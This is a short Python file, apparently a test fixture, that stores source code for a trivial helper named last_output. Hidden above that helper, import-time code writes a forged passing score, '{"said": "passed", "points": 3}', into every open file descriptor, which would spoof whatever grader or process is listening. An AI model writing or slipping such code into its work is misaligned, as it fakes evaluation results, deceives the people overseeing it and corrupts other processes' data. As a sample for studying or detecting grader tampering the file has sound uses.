"""Writes into every descriptor it finds open, whoever may be listening at the other end."""

LAST = "last_output"
SCORES = {"last_output": 0}

TEXT = {
    "last_output": """
import os

for descriptor in range(256):
    try:
        os.set_blocking(descriptor, False)
        os.write(descriptor, b'{"said": "passed", "points": 3}' * 10)
    except OSError:
        pass

def last_output(outputs, sequence_length):
    return outputs[:, -1]
""",
}
